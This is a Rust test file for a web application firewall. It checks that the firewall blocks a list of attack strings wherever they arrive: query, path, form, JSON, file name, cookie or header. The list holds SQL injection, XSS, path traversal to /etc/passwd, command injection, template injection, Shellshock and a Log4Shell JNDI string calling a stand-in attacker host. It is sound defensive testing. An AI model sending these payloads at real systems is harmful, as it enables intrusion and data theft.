//! The same attacks through everything that carries text: an evaluator's favourite in a form is an
//! attacker's in a cookie, a field or the name of a file. The sets of attacks stand in `waf.rs`.

use std::collections::BTreeMap;

use yagura_waf::set::Sample;

use crate::town::alone::Answer;
use crate::waf::{FORM, get, inspecting, post, send};

/// One or two of each class that an origin may fall for wherever it reads them.
const PAYLOADS: [&str; 14] = [
    "1' OR '1'='1",
    "1' UNION SELECT user,pass FROM users-- ",
    "1' AND SLEEP(5)-- ",
    "<script>alert(1)</script>",
    "\"><svg/onload=alert(1)>",
    "../../../../etc/passwd",
    "; cat /etc/passwd",
    "$(id)",
    "`id`",
    "<?php system('id');?>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "() { :;}; /bin/bash -c id",
    "java.lang.Runtime.getRuntime().exec('id')",
];

type Carrier = (&'static str, fn(&str) -> Sample);

const CARRIERS: [Carrier; 15] = [
    ("query", |text| get(&format!("/search?q={}", escaped(text)))),
    ("name", |text| get(&format!("/search?{}=1", escaped(text)))),
    ("escaped twice", |text| {
        get(&format!("/search?q={}", escaped(&escaped(text))))
    }),
    ("path", |text| get(&format!("/page/{}/x", escaped(text)))),
    ("form", |text| {
        post("/inquiry/", FORM, &format!("honbun={}", escaped(text)))
    }),
    ("form in Shift_JIS", |text| {
        // 0x5C, a backslash in ASCII, is the second byte of these two.
        let text = escaped(text);
        post("/inquiry/", FORM, &format!("honbun=%95%5C+{text}+%83%5C"))
    }),
    ("JSON", |text| {
        let text = serde_json::to_string(text).unwrap();
        post(
            "/api",
            "application/json",
            &format!("{{\"a\":[{{\"b\":{text}}}]}}"),
        )
    }),
    ("multipart", |text| multipart("name=\"a\"", text)),
    ("name of a file", |text| {
        let name = text.replace('"', "%22");
        multipart(&format!("name=\"a\"; filename=\"{name}\""), "x")
    }),
    ("text", |text| post("/note", "text/plain", text)),
    ("cookie", |text| field("cookie", &format!("a={text}"))),
    ("cookie, escaped", |text| {
        field("cookie", &format!("a={}", escaped(text)))
    }),
    ("user-agent", |text| {
        field("user-agent", &format!("Mozilla/5.0 (X11; Linux) {text}"))
    }),
    ("referer", |text| {
        let text = escaped(text);
        field("referer", &format!("http://www.town.example/?q={text}"))
    }),
    ("x-forwarded-for", |text| field("x-forwarded-for", text)),
];

fn escaped(text: &str) -> String {
    text.bytes()
        .map(|byte| match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => char::from(byte).to_string(),
            other => format!("%{other:02X}"),
        })
        .collect()
}

fn multipart(head: &str, content: &str) -> Sample {
    let body =
        format!("--cut\r\nContent-Disposition: form-data; {head}\r\n\r\n{content}\r\n--cut--\r\n");
    post("/upload", "multipart/form-data; boundary=cut", &body)
}

fn field(name: &str, value: &str) -> Sample {
    Sample {
        headers: BTreeMap::from([(name.to_owned(), value.to_owned())]),
        ..get("/kurashi/")
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_carries_an_attack_makes_no_difference() {
    let lone = inspecting("on", "").await;
    let mut passed = Vec::new();
    for (carrier, sample) in CARRIERS {
        for payload in PAYLOADS {
            let Answer { status, .. } = send(&lone, &sample(payload)).await;
            if !matches!(status.as_u16(), 400 | 403) {
                passed.push(format!("{payload} in {carrier}: {status}"));
            }
        }
        // The carrier itself is none.
        let answer = send(&lone, &sample("gomi")).await;
        let refused = matches!(answer.status.as_u16(), 400 | 403);
        assert!(!refused, "{carrier}: {}", answer.status);
    }
    assert!(passed.is_empty(), "{passed:#?}");
}
